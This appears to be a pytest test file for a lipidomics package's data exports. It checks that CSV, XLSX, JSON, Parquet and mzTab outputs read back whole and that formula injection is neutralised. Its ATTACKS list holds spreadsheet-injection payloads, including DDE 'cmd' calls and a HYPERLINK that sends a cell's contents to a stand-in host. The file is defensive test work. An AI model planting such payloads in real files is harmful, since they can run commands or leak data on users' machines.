"""Every export is read back, holds every row, and executes nothing."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jsonschema
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from builders import FRAMES, build_analysis
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

import ganglioside as gg
from ganglioside.analysis import Analysis, analyze
from ganglioside.columns import FEATURES, FORMULA_STARTS_IN_NAMES, VERDICTS
from ganglioside.errors import ExportError
from ganglioside.exporting import (
    FORMATS,
    export,
    read_json,
    safe_text,
    to_csv,
    to_json,
    to_mztab,
    to_parquet,
    to_xlsx,
)
from ganglioside.exporting.lists import to_generic_list, to_skyline_list
from ganglioside.exporting.schema import json_schema, published_schema
from ganglioside.exporting.spreadsheet_text import safe_column
from ganglioside.simulation.example import example

SHEETS = ["features", "models", "findings", "problems", "methods", "notes"]

#: What must never reach a spreadsheet as it is.
ATTACKS = [
    '=cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '+cmd|" /C calc"!A0',
    '-cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.invalid?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-1+1",
    "+1-1",
    "--1",
    "-NeuAc",
    "+Na-H",
    "-",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a;;-1+cmd",
    "=",
    "=1;=2",
    '"=cmd|" /C calc"!A0',
    '""=1+1',
    '" =1+1',
    " =1+1",
    "\u00a0@SUM(1)",
    "\ufeff=1+1",
    '\ufeff"=1+1',
    "\u200b-cmd",
    "\x00=1+1",
    "\x0b=1+1",
    "﹦1+1",
    '"＝1+1',
    'a;"=1+1',
    "a,=1+1",
    'a,"-cmd',
    "a; =1+1",
    "a\x0b=1+1",
    "a\u2028+cmd",
    "a\x85@SUM(1)",
]
HARMLESS = [
    "", "GM1(36:1;O2)", "36:1;O2", "9-O-Ac-GD3", "a, -b", "a; -b", "1e-5", "-0.5", "+3", "-1,5",
    "-1e-5", "+.5", "'", "#N/A", "x=1", "β-D, 5′", " -0.5", "'=1", '"GM1(36:1;O2)"', 'a" = b',
    "RT 5.1 min, +0.2 min from the curve", "[M-H]-",
]  # fmt: skip


def starts_a_formula(cell: str) -> bool:
    starts = (*FORMULA_STARTS_IN_NAMES, "\n", *"＝＋－＠")
    return cell.startswith(starts) and not is_number(cell)


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return text.isascii()


def hostile() -> Analysis:
    """Formula-like text in every text column, in carried ones and in headers."""
    n = len(ATTACKS)
    analysis = build_analysis(
        n,
        extra=pd.DataFrame(
            {
                "sample": ATTACKS,
                "=carried": ATTACKS,
                "mixed": pd.Series([*ATTACKS[:-2], 1, -2.5], dtype=object),
                "kind": pd.Categorical(ATTACKS),
                "number": np.linspace(-1, 1, n),
                "-number as text": pd.Series(["-0.5"] * n, dtype="str"),
            }
        ),
    )
    texts = [c for c, kind in FEATURES.items() if kind == "str"]
    features = analysis.features.assign(**{c: pd.Series(ATTACKS, dtype="str") for c in texts})
    findings = pd.DataFrame(dict.fromkeys(analysis.findings.columns, ATTACKS))
    for name, frame in (("features", features), ("findings", findings)):
        object.__setattr__(analysis, name, frame)
    return analysis


def rows_of(sheet: Worksheet) -> pd.DataFrame:
    header, *cells = sheet.iter_rows(values_only=True)
    return pd.DataFrame(cells, columns=list(header))


# Text


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_is_neutralised_and_can_be_read(text: str) -> None:
    safe = safe_text(text)
    assert safe != text
    assert safe.replace("'", "") == text
    assert not starts_a_formula(safe)
    for part in safe.replace("\n", ";").replace("\t", ";").replace("\r", ";").split(";"):
        assert not starts_a_formula(part)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays(text: str) -> None:
    assert safe_text(text) == text


@given(st.text(st.sampled_from("=@+-\t\r\n;,'\"＝a1. |")))
def test_no_text_is_left_that_begins_a_formula(text: str) -> None:
    safe = safe_text(text)
    assert not starts_a_formula(safe)
    assert safe_text(safe) == safe
    assert safe.replace("'", "") == text.replace("'", "")


@given(st.lists(st.none() | st.text(st.sampled_from("=@+-\t\r\n;,'\"＝a1. |\u2028")), max_size=6))
def test_a_column_is_as_safe_as_its_cells(cells: list[str | None]) -> None:
    safe = safe_column(pd.Series(cells, dtype="str"))
    expected = [None if cell is None else safe_text(cell) for cell in cells]
    assert safe.astype(object).where(safe.notna(), None).tolist() == expected


# CSV


def test_csv_reads_back() -> None:
    features = build_analysis(20).features
    content = to_csv(build_analysis(20))
    assert content.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
    assert list(back.columns) == list(features.columns)
    for column, kind in FEATURES.items():
        if kind in ("float64", "Int64"):
            expected = features[column].astype("float64")
            pd.testing.assert_series_equal(back[column].astype("float64"), expected)
    assert list(back["verdict"]) == list(features["verdict"])
    assert list(back["anchor"]) == list(features["anchor"])
    undone = back["name"].str.replace("^'", "", regex=True)
    assert list(undone) == list(features["name"])


def cells_with_commas(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def cells_with_semicolons(text: str) -> list[str]:
    """Split as a program does that expects semicolons: quotes within a cell count for nothing."""
    return re.split(r"[;\r\n]", text)


@pytest.mark.parametrize("split", [cells_with_commas, cells_with_semicolons])
def test_csv_holds_no_formula_in_either_locale(split: Callable[[str], list[str]]) -> None:
    cells = split(to_csv(hostile()).decode("utf-8-sig"))
    assert len(cells) > 100
    assert [cell for cell in cells if starts_a_formula(cell)] == []


def test_numbers_stay_numbers_in_csv() -> None:
    back = pd.read_csv(io.BytesIO(to_csv(hostile())), encoding="utf-8-sig")
    assert "=carried" not in back
    assert list(back["number"]) == list(np.linspace(-1, 1, len(ATTACKS)))
    assert set(back["'-number as text"]) == {-0.5}
    assert len(back) == len(ATTACKS)


@dataclass(frozen=True)
class Dialect:
    """A program that reads text: its separator, and whether it knows quotes, inside cells too."""

    separator: str
    quotes: bool

    def cells(self, text: str) -> Iterator[str]:
        kind = csv.QUOTE_MINIMAL if self.quotes else csv.QUOTE_NONE
        lines = text.splitlines() if not self.quotes else io.StringIO(text, newline="")
        for row in csv.reader(lines, delimiter=self.separator, quoting=kind):
            yield from row


DIALECTS = [Dialect(separator, quotes) for separator in ",;\t" for quotes in (True, False)]

#: What programs take off before they look at a cell.
TAKEN_OFF = '"\t\r\n\ufeff\u200b\x00\x0b\x0c\x85\u2028\u2029'


def is_formula(cell: str) -> bool:
    """Return whether a cell is a formula once quotes and what cannot be seen are off.

    A dash or plus after a blank is one of a sentence, unless the cell is no part of one.
    """
    bare = cell.strip(TAKEN_OFF)
    blank = cell.strip(TAKEN_OFF + " \xa0")
    return (bare.startswith(tuple("+-＋－")) and not is_number(bare)) or blank.startswith(
        tuple("=@＝＠﹦")
    )


def as_library(analysis: Analysis, form: str) -> bytes:
    n = len(ATTACKS)
    texts = ("series", "name", "isomer", "formula", "adduct", "basis")
    numbers = ("mz", "rt", "rt_start", "rt_end")
    library = pd.DataFrame({**dict.fromkeys(texts, ATTACKS), **dict.fromkeys(numbers, 1.5)})
    assert len(library) == n
    return {"generic": to_generic_list, "skyline": to_skyline_list}[form](library)


TEXT_EXPORTS: dict[str, Callable[[Analysis], bytes]] = {
    "csv": to_csv,
    "mztab": to_mztab,
    "generic list": lambda analysis: as_library(analysis, "generic"),
    "skyline list": lambda analysis: as_library(analysis, "skyline"),
}


@pytest.mark.parametrize("dialect", DIALECTS, ids=str)
@pytest.mark.parametrize("name", TEXT_EXPORTS)
def test_no_program_finds_a_formula_in_a_text_export(name: str, dialect: Dialect) -> None:
    text = TEXT_EXPORTS[name](hostile()).decode("utf-8-sig")
    cells = list(dialect.cells(text.replace("\0", "")))
    assert len(cells) > 30
    assert [cell for cell in cells if is_formula(cell)] == []


@pytest.mark.parametrize("dialect", DIALECTS, ids=str)
@given(text=st.text(st.sampled_from("=@+-\"\t\r\n;,'＝a1 \ufeff\u200b\x0b\u2028\xa0")))
def test_no_text_is_a_formula_to_any_program(dialect: Dialect, text: str) -> None:
    cells = [safe_text(text)] if dialect.quotes else dialect.cells(safe_text(text))
    assert [cell for cell in cells if is_formula(cell)] == []


@pytest.mark.parametrize("text", ["\t" * 200_000, ";" + " " * 200_000, '"' * 200_000])
def test_long_text_is_searched_once(text: str) -> None:
    assert safe_text(text).replace("'", "") == text


# XLSX


def test_xlsx_reads_back() -> None:
    analysis = build_analysis(20)
    book = load_workbook(io.BytesIO(to_xlsx(analysis)))
    assert book.sheetnames == SHEETS
    for name in FRAMES:
        frame = getattr(analysis, name)
        back = rows_of(book[name])
        assert list(back.columns) == list(frame.columns)
        assert len(back) == len(frame)
    back = rows_of(book["features"])
    for column in ("rt", "volume", "confidence", "feature_id", "parent_id"):
        expected = analysis.features[column].astype("float64")
        pd.testing.assert_series_equal(back[column].astype("float64"), expected)
    assert list(back["verdict"]) == list(analysis.features["verdict"])
    assert list(back["anchor"]) == list(analysis.features["anchor"])


def test_xlsx_can_be_worked_with() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(build_analysis(20))))
    sheet = book["features"]
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == "A1:AK21".replace(
        "AK", sheet.cell(1, len(FEATURES)).column_letter
    )
    assert all(cell.font.bold for cell in sheet[1])
    column = {cell.value: cell.column for cell in sheet[1]}
    assert sheet.cell(2, column["rt"]).number_format == "0.000"
    assert sheet.cell(2, column["volume"]).number_format == "#,##0"
    fills = {
        sheet.cell(r, column["verdict"]).value: sheet.cell(r, column["verdict"]).fill.fgColor.rgb
        for r in range(2, 22)
    }
    assert set(fills) == set(VERDICTS)
    assert len(set(fills.values())) == len(VERDICTS)
    assert all(8 <= sheet.column_dimensions[c.column_letter].width <= 80
               or c.value in ("hex", "oac", "dhex") for c in sheet[1])  # fmt: skip


def test_xlsx_tells_where_it_comes_from() -> None:
    analysis = build_analysis()
    book = load_workbook(io.BytesIO(to_xlsx(analysis)))
    methods = rows_of(book["methods"]).set_index("item")["value"]
    assert methods["input SHA-256"] == analysis.source.sha256
    assert methods["input"] == analysis.source.name
    assert methods["program"].endswith(analysis.version)
    for name, value in analysis.settings.to_dict().items():
        assert methods[f"setting {name}"] == value
    assert methods["summary features"] == 5
    notes = " ".join(rows_of(book["notes"])["meaning"])
    assert "apostrophe" in notes


def test_xlsx_holds_no_formula() -> None:
    content = to_xlsx(hostile())
    cells = [c for sheet in load_workbook(io.BytesIO(content)) for row in sheet for c in row]
    assert len(cells) > 1000
    assert {c.data_type for c in cells} <= {"s", "inlineStr", "n", "b"}
    assert [c.value for c in cells if isinstance(c.value, str) and starts_a_formula(c.value)] == []
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(n) for n in parts.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == len(SHEETS)
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


def test_xlsx_keeps_what_a_sheet_cannot_hold_visible() -> None:
    extra = pd.DataFrame(
        {
            "control": pd.Series(["a\x00b\x1fc", "#N/A", "#REF!", "x" * 40_000, "\ufffe"]),
            "large": [2**62, -(2**62), 1, 2, 3],
            "infinite": [np.inf, -np.inf, np.nan, 0.0, -1.5],
            "zoned": pd.date_range("2024-01-01", periods=5, tz="Europe/Paris"),
            "naive": pd.to_datetime(
                ["2024-02-29 12:30", None, "2000-01-01 00:00", "1800-01-01 00:00", None]
            ),
        }
    )
    book = load_workbook(io.BytesIO(to_xlsx(build_analysis(extra=extra))))
    assert "e" not in {cell.data_type for row in book["features"] for cell in row}
    back = rows_of(book["features"])
    assert list(back["control"][:3]) == ["a\ufffdb\ufffdc", "#N/A", "#REF!"]
    assert len(back["control"][3]) <= 32_767
    assert back["control"][3].endswith("[cut]")
    assert list(back["large"][:3]) == [str(2**62), str(-(2**62)), 1]
    assert list(back["infinite"]) == ["inf", "'-inf", None, 0, -1.5]
    assert back["zoned"][0] == "2024-01-01T00:00:00+01:00"
    assert back["naive"][3] == "1800-01-01T00:00:00"
    assert back["naive"][0] == pd.Timestamp("2024-02-29 12:30")


def test_xlsx_refuses_more_rows_than_a_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    from ganglioside.exporting import workbook

    monkeypatch.setattr(workbook, "_MOST_ROWS", 40)
    with pytest.raises(ExportError, match=r"40 rows.*CSV or Parquet"):
        to_xlsx(build_analysis(40))
    to_xlsx(build_analysis(39))


# JSON


def test_json_reads_back_equal() -> None:
    extra = pd.DataFrame(
        {
            "mz": [917.4795, np.nan, np.inf, -np.inf, -0.0],
            "note": pd.Series(["=1+1", None, "", "β", "\x00"], dtype="str"),
            "n": pd.array([1, None, 3, 4, 2**62], dtype="Int64"),
        }
    )
    analysis = build_analysis(extra=extra)
    document = read_json(to_json(analysis))
    for name in FRAMES:
        pd.testing.assert_frame_equal(
            getattr(document, name), getattr(analysis, name), check_exact=True, obj=name
        )
    assert document.settings == analysis.settings
    assert repr(document.summary) == repr(analysis.summary)
    assert document.source_sha256 == analysis.source.sha256
    assert document.source_name == analysis.source.name
    assert document.version == analysis.version


def test_json_is_strict_and_names_its_schema() -> None:
    def refuse(constant: str) -> None:
        raise AssertionError(constant)

    document: dict[str, Any] = json.loads(to_json(build_analysis()), parse_constant=refuse)
    assert (document["schema"], document["schema_version"]) == ("ganglioside-analysis", 1)
    assert document["summary"]["curve_sigma"] is None
    assert document["features"][4]["rt"] is None
    assert document["features"][0]["confidence"] == 0.1 + 0.2
    assert list(document["features"][0]) == list(FEATURES)


@pytest.mark.parametrize("n", [0, 1])
def test_small_tables_read_back(n: int) -> None:
    analysis = build_analysis(n)
    pd.testing.assert_frame_equal(read_json(to_json(analysis)).features, analysis.features)
    assert len(read_parquet(to_parquet(analysis))) == n
    assert len(pd.read_csv(io.BytesIO(to_csv(analysis)))) == n
    assert len(rows_of(load_workbook(io.BytesIO(to_xlsx(analysis)))["features"])) == n


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "not JSON"),
        (b"name,rt", "not JSON"),
        (b"\xff", "not JSON"),
        (b"[]", "not an analysis"),
        (b'{"schema": "other"}', "not an analysis"),
        (b'{"schema": "ganglioside-analysis", "schema_version": 9}', "update"),
    ],
)
def test_what_is_no_export_is_refused(content: bytes, said: str) -> None:
    with pytest.raises(ExportError, match=said):
        read_json(content)


def test_json_follows_its_published_schema() -> None:
    schema = published_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    carried = {"x": [np.inf, np.nan, 1, 2, 3], "=y": ["a", None, "", "b", "c"]}
    for analysis in (
        build_analysis(),
        build_analysis(0),
        build_analysis(extra=pd.DataFrame(carried)),
    ):
        assert list(validator.iter_errors(json.loads(to_json(analysis)))) == []


@pytest.mark.parametrize(
    "spoil",
    [
        lambda d: d["features"][0].update(verdict="sure"),
        lambda d: d["features"][0].pop("rt"),
        lambda d: d["features"][0].update(rt="9.4"),
        lambda d: d["settings"].update(rt_tolerance=7),
        lambda d: d["source"].update(sha256="x"),
        lambda d: d.update(schema_version=2),
        lambda d: d.pop("summary"),
        lambda d: d.update(more=1),
    ],
)
def test_the_schema_refuses_what_is_no_document(spoil: Callable[[dict[str, Any]], Any]) -> None:
    document = json.loads(to_json(build_analysis()))
    spoil(document)
    assert list(jsonschema.Draft202012Validator(published_schema()).iter_errors(document))


def test_the_published_schema_is_that_of_this_version() -> None:
    """To write it anew: see `ganglioside.exporting.schema`."""
    assert published_schema() == json_schema()


# Parquet


def read_parquet(content: bytes) -> pd.DataFrame:
    return pd.read_parquet(io.BytesIO(content))


def test_parquet_reads_back_equal_and_tells_where_it_comes_from() -> None:
    extra = pd.DataFrame({"mixed": pd.Series([1, "a", None, 2.5, True], dtype=object)})
    analysis = build_analysis(extra=extra)
    content = to_parquet(analysis)
    back = read_parquet(content)
    expected = analysis.features
    pd.testing.assert_frame_equal(
        back.drop(columns="mixed"), expected.drop(columns="mixed"), check_exact=True
    )
    assert back["mixed"].fillna("-").tolist() == ["1", "a", "-", "2.5", "True"]
    about = json.loads(pq.read_metadata(io.BytesIO(content)).metadata[b"ganglioside"])
    assert about["source"]["sha256"] == analysis.source.sha256
    assert len(about["findings"]) == len(analysis.findings)
    assert "features" not in about


# Files


@pytest.mark.parametrize("form", FORMATS)
def test_export_writes_by_the_ending(tmp_path: Path, form: str) -> None:
    target = tmp_path / f"result.{form.upper()}"
    assert export(build_analysis(), target) == target
    assert list(tmp_path.iterdir()) == [target]
    starts = {"csv": b"\xef\xbb\xbffeature_id", "xlsx": b"PK", "json": b"{", "parquet": b"PAR1",
              "mztab": b"MTD\tmzTab-version\t2.0.0-M"}  # fmt: skip
    assert target.read_bytes().startswith(starts[form])


def test_the_command_line_knows_the_same_formats() -> None:
    from ganglioside.cli import options

    assert options.FORMATS == FORMATS


def test_a_given_format_is_stronger_than_the_ending(tmp_path: Path) -> None:
    target = export(build_analysis(), tmp_path / "result.txt", "json")
    assert len(read_json(target.read_bytes()).features) == 5


@pytest.mark.parametrize("name", ["result", "result.pdf", "csv"])
def test_an_unknown_format_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(ExportError, match="no export format"):
        export(build_analysis(), tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_missing_is_named(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"absent.*folder that exists"):
        export(build_analysis(), tmp_path / "absent" / "result.csv")


@pytest.mark.parametrize("write", [to_csv, to_json, to_parquet, to_mztab])
def test_the_same_analysis_gives_the_same_bytes(write: Any) -> None:
    assert write(build_analysis(30)) == write(build_analysis(30))


# The real path


@pytest.fixture(scope="module")
def analysed() -> Analysis:
    return analyze(example())


@pytest.mark.parametrize("form", FORMATS)
def test_the_analysed_example_is_exported_whole(
    analysed: Analysis, tmp_path: Path, form: str
) -> None:
    if form == "mztab":
        pytest.skip("a format of other columns: see test_mztab.py")
    readers: dict[str, Callable[[bytes], pd.DataFrame]] = {
        "csv": lambda content: pd.read_csv(io.BytesIO(content)),
        "xlsx": lambda content: rows_of(load_workbook(io.BytesIO(content))["features"]),
        "json": lambda content: read_json(content).features,
        "parquet": read_parquet,
    }
    back = readers[form](export(analysed, tmp_path / f"example.{form}").read_bytes())
    assert list(back.columns) == list(analysed.features.columns)
    assert list(back["feature_id"]) == list(analysed.features["feature_id"])
    assert list(back["verdict"]) == list(analysed.features["verdict"])
    for column in ("rt", "confidence", "predicted_rt", "consolidated_volume"):
        expected = analysed.features[column]
        # a workbook's numbers have 16 digits, the others all
        digits = {"rtol": 1e-15, "atol": 0} if form == "xlsx" else {"check_exact": True}
        pd.testing.assert_series_equal(back[column].astype("float64"), expected, **digits)


def test_the_analysed_example_comes_back_from_json(analysed: Analysis) -> None:
    document = read_json(to_json(analysed))
    for name in FRAMES:
        pd.testing.assert_frame_equal(
            getattr(document, name), getattr(analysed, name), check_exact=True, obj=name
        )


def test_what_the_analyst_says_leaves_with_every_export(tmp_path: Path) -> None:
    said = gg.Override(feature_id=3, verdict="outlier", note="=no MS/MS", author="kh")
    analysis = gg.analyze(gg.example()).with_overrides(gg.Overrides().put(said))
    frames = {
        "csv": pd.read_csv(io.BytesIO(to_csv(analysis))),
        "xlsx": pd.read_excel(io.BytesIO(to_xlsx(analysis)), sheet_name="features"),
        "parquet": pd.read_parquet(io.BytesIO(to_parquet(analysis))),
        "json": read_json(to_json(analysis)).features,
    }
    for kind, frame in frames.items():
        row = frame.loc[3, ["analyst_verdict", "analyst_note", "analyst"]].tolist()
        note = "'=no MS/MS" if kind in ("csv", "xlsx") else "=no MS/MS"
        assert row == ["outlier", note, "kh"], kind
        assert frame["analyst_verdict"].notna().sum() == 1
        assert pd.Timestamp(frame.loc[3, "analyst_time"]) == pd.Timestamp(said.time)
        assert frame.loc[3, "verdict"] == analysis.features.loc[3, "verdict"]
